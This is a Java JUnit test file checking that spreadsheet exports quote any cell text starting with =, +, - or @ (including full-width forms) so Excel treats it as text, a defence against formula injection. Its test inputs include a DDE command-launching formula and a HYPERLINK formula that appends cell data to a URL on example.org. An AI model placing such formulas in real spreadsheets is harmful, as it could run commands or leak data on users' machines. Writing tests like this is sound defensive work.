package cn.zhishen.enterprise.workbook;

import static cn.zhishen.enterprise.LibraryFixtures.citizen;
import static cn.zhishen.enterprise.LibraryFixtures.equipment;
import static cn.zhishen.enterprise.LibraryFixtures.person;
import static cn.zhishen.enterprise.LibraryFixtures.project;
import static cn.zhishen.enterprise.Workbooks.bytes;
import static cn.zhishen.enterprise.Workbooks.file;
import static org.assertj.core.api.Assertions.assertThat;

import cn.zhishen.DeliveredSettings;
import cn.zhishen.enterprise.Employment;
import cn.zhishen.enterprise.Equipment;
import cn.zhishen.enterprise.Figure;
import cn.zhishen.enterprise.Person;
import cn.zhishen.enterprise.PersonCertificate;
import cn.zhishen.enterprise.Workbooks;
import cn.zhishen.enterprise.library.CheckingLibrary;
import cn.zhishen.enterprise.library.EnterpriseLibrary;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/** A text that begins like a formula stays text in Excel too, even after somebody opens the cell and leaves it. */
class QuotedTextTest {

    private static final List<String> LIKE_FORMULAS = List.of(
            "=HYPERLINK(\"http://example.org/?\"&A2,\"合同\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "　=1+1",
            "＝1+1",
            "＋86",
            "－2",
            "＠职务",
            "-");

    private static final List<String> PLAIN = List.of("扎西", "1+1", "a=b", "'=1+1", "（+）", "2-1", " ", "x@example.org");

    private final WorkbookProperties limits = DeliveredSettings.of(WorkbookProperties.class);
    private final EnterpriseLibrary library =
            CheckingLibrary.at(Clock.fixed(Instant.parse("2026-07-01T00:00:00Z"), ZoneOffset.UTC));
    private final OfferedWords offered = field -> List.of("＋" + field, field);
    private final PersonWorkbook persons = new PersonWorkbook(library, offered, limits);
    private final EquipmentWorkbook equipment = new EquipmentWorkbook(library, offered, limits);
    private final ProjectWorkbook projects = new ProjectWorkbook(library, offered, limits);

    @TempDir
    private Path directory;

    @Test
    void eachCellThatBeginsLikeAFormulaIsQuotedAndNoOther() throws IOException {
        var texts = new ArrayList<>(LIKE_FORMULAS);
        texts.addAll(PLAIN);
        var workbook = bytes(out -> QuotedText.write(
                to -> {
                    try (var book = new Workbook(to, "test", "1.0")) {
                        var sheet = book.newWorksheet("甲");
                        for (int i = 0; i < texts.size(); i++) {
                            QuotedText.put(sheet, i, 0, texts.get(i));
                        }
                    }
                },
                out));

        var quoted = quoted(workbook, 1);
        for (int i = 0; i < texts.size(); i++) {
            assertThat(quoted.get("A" + (i + 1)))
                    .as("cell of <%s>", texts.get(i))
                    .isEqualTo(i < LIKE_FORMULAS.size());
        }
        try (var read = new ReadableWorkbook(new ByteArrayInputStream(workbook));
                var rows = read.getFirstSheet().openStream()) {
            assertThat(rows.map(row -> row.getCellText(0).replace("\r", "\n")))
                    .as("XML knows one kind of line break only; nothing else of a value may change")
                    .containsExactlyElementsOf(
                            texts.stream().map(text -> text.replace("\r", "\n")).toList());
        }
    }

    @Test
    void whatAnExportSaysIsQuotedAndReadBackAsItWas() throws IOException {
        var people = List.of(
                person(1),
                new Person(
                        citizen(2),
                        "=1+1",
                        "＝本科",
                        "+土木",
                        null,
                        "＠职务",
                        List.of(new PersonCertificate(
                                PersonCertificate.Kind.TITLE, "-工程系列", null, List.of("=结构"), "+12", null, null)),
                        List.of(new Employment(LocalDate.of(2001, 1, 1), null, "@乙", "－总工", "=建筑工程", true))));
        var exported = bytes(out -> persons.write(people, out));

        assertThat(quoted(exported, 1))
                .containsAllEntriesOf(Map.of("D3", true, "F3", true, "G3", true, "I3", true, "D2", false));
        assertThat(quoted(exported, 2)).containsValue(true);
        assertThat(quoted(exported, 3)).containsValue(true);
        var reading = persons.read(file(directory, exported));
        assertThat(reading.errors()).isEmpty();
        assertThat(reading.entries()).isEqualTo(people);
    }

    @Test
    void aLongNegativeFigureIsQuotedAsTheTextThatItIs() {
        var item = equipment("001");
        var exported = bytes(out -> equipment.write(
                List.of(new Equipment(
                        "001",
                        item.name(),
                        null,
                        1,
                        null,
                        null,
                        List.of(new Figure("长", new BigDecimal("-1234567890.12345678901"))),
                        List.of(),
                        null)),
                out));

        assertThat(quoted(exported, 2)).containsValue(true);
    }

    @Test
    void noSheetOfAnyWorkbookHasACellThatBeginsLikeAFormulaAndIsNotQuoted() {
        for (var workbook : List.of(
                bytes(persons::writeTemplate),
                bytes(equipment::writeTemplate),
                bytes(projects::writeTemplate),
                bytes(out -> persons.write(List.of(person(1)), out)),
                bytes(out -> projects.write(List.of(project("-1")), out)))) {
            var shared = xml(workbook, "xl/sharedStrings.xml").getElementsByTagName("si");
            int sheets = (int) Workbooks.parts(workbook).keySet().stream()
                    .filter(name -> name.startsWith("xl/worksheets/sheet"))
                    .count();
            for (int sheet = 1; sheet <= sheets; sheet++) {
                var quoted = quoted(workbook, sheet);
                cells(workbook, sheet).forEach((place, cell) -> {
                    if (cell.getAttribute("t").equals("s")) {
                        var text = shared.item(Integer.parseInt(cell.getTextContent()))
                                .getTextContent();
                        assertThat(quoted.get(place))
                                .as("%s of %s", place, text)
                                .isEqualTo(text.matches("(?s)[=+\\-@＝＋－＠].*"));
                    }
                });
            }
            assertThat(IntStream.rangeClosed(1, sheets)
                            .anyMatch(sheet -> quoted(workbook, sheet).containsValue(true)))
                    .as("the words proposed here begin so")
                    .isTrue();
        }
    }

    private static Map<String, Boolean> quoted(byte[] workbook, int sheet) {
        var formats = ((Element) xml(workbook, "xl/styles.xml")
                        .getElementsByTagName("cellXfs")
                        .item(0))
                .getElementsByTagName("xf");
        var quoted = new LinkedHashMap<String, Boolean>();
        cells(workbook, sheet).forEach((place, cell) -> {
            var style = cell.getAttribute("s");
            quoted.put(
                    place,
                    !style.isEmpty()
                            && ((Element) formats.item(Integer.parseInt(style)))
                                    .getAttribute("quotePrefix")
                                    .equals("1"));
        });
        return quoted;
    }

    private static Map<String, Element> cells(byte[] workbook, int sheet) {
        var all = xml(workbook, "xl/worksheets/sheet" + sheet + ".xml").getElementsByTagName("c");
        var cells = new LinkedHashMap<String, Element>();
        for (int i = 0; i < all.getLength(); i++) {
            var cell = (Element) all.item(i);
            cells.put(cell.getAttribute("r"), cell);
        }
        return cells;
    }

    private static Document xml(byte[] workbook, String part) {
        try {
            return DocumentBuilderFactory.newInstance()
                    .newDocumentBuilder()
                    .parse(new ByteArrayInputStream(Workbooks.parts(workbook).get(part)));
        } catch (Exception e) {
            throw new IllegalStateException(part, e);
        }
    }
}
